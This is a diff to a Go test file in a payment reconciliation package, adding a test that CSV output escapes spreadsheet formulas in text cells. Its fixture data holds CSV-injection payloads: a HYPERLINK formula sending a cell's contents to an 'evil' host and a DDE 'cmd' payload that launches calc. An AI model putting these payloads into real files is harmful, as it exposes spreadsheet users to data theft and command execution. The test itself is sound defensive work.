@@ -1,7 +1,11 @@
 package reconcile
 
 import (
+	"bytes"
+	"encoding/csv"
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/stretchr/testify/require"
 )
@@ -21,4 +25,33 @@ func TestCheckGrossAmounts(t *testing.T) {
 	var me *MismatchError
 	require.ErrorAs(t, err, &me)
 	require.Contains(t, me.Diffs, Diff{Row: rdTotal, Column: "txn-gross", Want: 40000, Got: 30000})
+}
+
+// TestCSVTextCellsAreNotFormulas: orderIds and other text from the file or the merchant that a
+// spreadsheet would run as a formula are written with a leading apostrophe; amounts, negative
+// ones included, are left alone. Found in the third session's review.
+func TestCSVTextCellsAreNotFormulas(t *testing.T) {
+	recs := func(yield func(Record, error) bool) {
+		yield(Record{Line: 1, OrderID: `=HYPERLINK("http://evil/?"&A1,"x")`, QueryID: "+1+1", OrigQueryID: "@SUM(1)",
+			TxnType: "-2+3", TxnAmt: 1, MerchantFee: -5, TxnTime: time.Date(2025, 1, 1, 0, 0, 0, 0, Beijing())}, nil)
+	}
+	orders := func(yield func(Order, error) bool) {
+		yield(Order{OrderID: "=cmd|' /C calc'!A0", Amount: 5}, nil)
+	}
+	var buf bytes.Buffer
+	_, err := WriteCSV(&buf, Match(recs, orders))
+	require.NoError(t, err)
+	out := buf.String()
+	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	require.NoError(t, err)
+	for _, row := range rows {
+		for i, cell := range row {
+			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) ||
+				strings.HasPrefix(cell, "-") && csvHeader[i] != "fee_fen" && csvHeader[i] != "net_fen" {
+				t.Errorf("column %s: %q would be a formula", csvHeader[i], cell)
+			}
+		}
+	}
+	require.Contains(t, out, `'=HYPERLINK`)
+	require.Contains(t, out, ",-5,")
 }
